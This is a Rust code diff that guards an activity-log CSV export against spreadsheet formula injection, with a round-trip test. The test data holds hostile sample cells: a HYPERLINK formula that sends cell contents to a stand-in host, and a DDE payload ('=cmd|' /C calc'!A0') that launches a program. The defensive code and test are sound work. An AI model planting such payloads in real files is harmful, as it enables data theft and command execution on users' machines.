@@ -42,6 +42,31 @@ pub const COLUMNS: [&str; 17] = [
 /// Several values in one cell ("AMA_PRA_CAT1=1.5; ABIM_MOC_POINT=1.5") are separated by this.
 pub const LIST_SEPARATOR: &str = "; ";
 
+/// A spreadsheet reads a cell that starts with one of these as a formula (OWASP, "CSV
+/// Injection"): a title such as `=HYPERLINK(…)` from someone else's file would run when the
+/// export is opened.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell as written: one that a spreadsheet would run as a formula gets a leading `'`, which
+/// spreadsheets show as text and [`read_table`] takes off again.
+fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// A cell as read: the `'` that [`inert`] (or a spreadsheet) put before a formula's first
+/// character is not part of the text.
+fn cell_text(cell: &str) -> String {
+    let t = cell.trim();
+    match t.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest.to_string(),
+        _ => t.to_string(),
+    }
+}
+
 /// Every activity as CSV, one row each, with a header row. Credits are `TYPE=amount` pairs, topics
 /// `topic` or `topic=hours` (hours when less than the whole activity), tags a list; codes are the
 /// app's own (the backup's), so a file exported here imports back to the same activities.
@@ -68,7 +93,7 @@ pub fn export<A: Borrow<Activity>>(activities: &[A]) -> String {
             .collect::<Vec<_>>()
             .join(LIST_SEPARATOR);
         let r = a.reflection.as_ref();
-        let _ = w.write_record([
+        let cells = [
             a.title.as_str(),
             a.provider.as_str(),
             a.accreditor.code(),
@@ -90,7 +115,8 @@ pub fn export<A: Borrow<Activity>>(activities: &[A]) -> String {
                 .map_or("", |o| o.changed.code()),
             r.and_then(|r| r.outcome.as_ref())
                 .map_or("", |o| o.what_happened.as_str()),
-        ]);
+        ];
+        let _ = w.write_record(cells.iter().map(|c| inert(c).into_owned()));
     }
     String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
 }
@@ -205,7 +231,7 @@ pub fn read_table(text: &str) -> Result<Table, String> {
             continue;
         }
         let line = record.position().map_or(0, |p| p.line());
-        rows.push((line, record.iter().map(|c| c.trim().to_string()).collect()));
+        rows.push((line, record.iter().map(cell_text).collect()));
     }
     Ok(Table { headers, rows })
 }
@@ -969,6 +995,43 @@ mod tests {
             credit_types: Default::default(),
         };
         preview(&table, &mapping, existing, today(), Utc::now())
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_read_back_unchanged() {
+        let titles = [
+            "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")",
+            "=1+1",
+            "+1 555 0100 hotline",
+            "-5 ways to chart",
+            "@SUM(A1:A2)",
+        ];
+        let mut acts: Vec<Activity> = titles
+            .iter()
+            .map(|t| {
+                activity("2025-03-12")
+                    .title(t)
+                    .credit("AMA_PRA_CAT1", "1")
+                    .build()
+            })
+            .collect();
+        acts[0].notes = "=cmd|' /C calc'!A0".into();
+        acts[1].provider = "@provider".into();
+        let text = export(&acts);
+        let table = read_table(&text).unwrap();
+        // As a spreadsheet sees the file: no cell starts with a formula character.
+        let mut raw = csv::Reader::from_reader(text.as_bytes());
+        for record in raw.records() {
+            for cell in record.unwrap().iter() {
+                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} would run");
+            }
+        }
+        assert_eq!(table.rows.len(), titles.len());
+        let p = import(&text, &[]);
+        assert_eq!(p.problems, vec![]);
+        let back: Vec<Activity> = p.activities.iter().map(content).collect();
+        let want: Vec<Activity> = acts.iter().map(content).collect();
+        assert_eq!(back, want);
     }
 
     #[test]
